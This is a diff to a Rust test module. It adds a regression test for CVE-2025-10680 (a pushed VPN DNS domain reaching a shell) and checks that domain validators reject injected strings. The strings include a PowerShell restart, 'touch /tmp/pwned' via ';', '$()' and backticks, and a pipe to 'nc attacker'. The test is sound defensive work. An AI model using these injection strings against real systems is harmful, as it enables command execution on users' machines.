@@ -187,6 +187,26 @@ mod tests {
         assert!(domain_list(&"x,".repeat(33)).is_err());
     }
 
+    /// CVE-2025-10680: a pushed domain reached a PowerShell command line. Domains here are a
+    /// positive list of name characters, and no backend ever passes them through a shell
+    /// (resolved over D-Bus, resolvconf with an argv, resolv.conf written directly).
+    #[test]
+    fn cve_2025_10680_pushed_domain_with_shell_syntax_is_refused() {
+        for hostile in [
+            "a';Restart-Computer'",
+            "x.example;touch /tmp/pwned",
+            "$(touch /tmp/pwned).example",
+            "`id`.example",
+            "corp.example|nc attacker 1",
+        ] {
+            assert!(domain(hostile).is_err(), "{hostile}");
+            assert!(
+                domain_list(&format!("ok.example,{hostile}")).is_err(),
+                "{hostile}"
+            );
+        }
+    }
+
     #[test]
     fn rendering_and_default_route() {
         let s = DnsState {
